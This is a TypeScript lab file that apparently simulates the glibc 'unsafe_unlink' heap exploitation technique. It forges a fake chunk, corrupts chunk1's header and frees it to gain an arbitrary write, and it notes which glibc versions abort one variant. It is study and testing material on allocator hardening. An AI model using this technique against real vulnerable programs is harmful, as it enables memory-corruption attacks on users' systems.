/**
 * unsafe_unlink: a fake free chunk inside chunk0, with fd/bk set so that the unlink checks
 * (fd->bk == P and bk->fd == P) pass through a global variable that holds chunk0's address;
 * chunk1's header is overwritten so that it looks preceded by that free chunk. Freeing chunk1
 * consolidates backwards and unlinks the fake chunk, which writes &global - 3 words into the
 * global; writing through the global then overwrites itself, and then any target.
 */

import assert from "node:assert/strict";
import { GLIBC_VERSIONS, type Lab, on, technique } from "./support.ts";

const REQUEST = 0x420; // past the tcache: free() reaches the consolidation code

technique({
  name: "unsafe_unlink",
  claim: "a global pointer to chunk0 is turned into an arbitrary write",
  outcomes: on(GLIBC_VERSIONS, "works"),
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const chunk0 = h.malloc(REQUEST), chunk1 = h.malloc(REQUEST);
    const global = lab.global(); // void *chunk0_ptr = chunk0;
    lab.write(global, chunk0);
    const fakeSize = lab.chunkSize(REQUEST) - 2 * sz; // ends where chunk1's header starts
    lab.setWord(chunk0, 1, fakeSize);
    lab.setWord(chunk0, 2, global - 3 * sz); // fd: fd->bk is the global
    lab.setWord(chunk0, 3, global - 2 * sz); // bk: bk->fd is the global
    // Overflow of chunk0 into chunk1: prev_size names the fake chunk, PREV_INUSE cleared.
    lab.vulnerability();
    lab.write(lab.chunk(chunk1), fakeSize);
    lab.write(lab.chunk(chunk1) + sz, lab.sizeField(chunk1) & ~1);
    h.free(chunk1);
    assert.equal(lab.read(global), global - 3 * sz);
    const victim = lab.stackTarget();
    lab.write(victim, 0x1111);
    // chunk0_ptr[3] = &victim; chunk0_ptr[0] = 0x4242
    lab.write(lab.read(global) + 3 * sz, victim);
    lab.write(lab.read(global), 0x4242);
    assert.equal(lab.read(victim), 0x4242);
  },
});

// The glibc 2.23 program leaves the fake chunk's size at 0. glibc 2.26's size vs. prev_size
// check in unlink then compares the fake chunk's prev_size with itself and passes; 2.29's
// check on backward consolidation compares the size 0 with chunk1's prev_size and aborts.
technique({
  name: "unsafe_unlink (2.23 program: fake size 0)",
  claim: "a global pointer to chunk0 is redirected to itself",
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(["2.31", "2.35", "2.36", "2.39", "2.41"], {
      aborts: "corrupted size vs. prev_size while consolidating",
      in: "free",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const chunk0 = h.malloc(REQUEST), chunk1 = h.malloc(REQUEST);
    const global = lab.global();
    lab.write(global, chunk0);
    lab.setWord(chunk0, 2, global - 3 * sz);
    lab.setWord(chunk0, 3, global - 2 * sz);
    lab.vulnerability();
    lab.write(lab.chunk(chunk1), lab.chunkSize(REQUEST) - 2 * sz);
    lab.write(lab.chunk(chunk1) + sz, lab.sizeField(chunk1) & ~1);
    h.free(chunk1);
    assert.equal(lab.read(global), global - 3 * sz);
  },
});
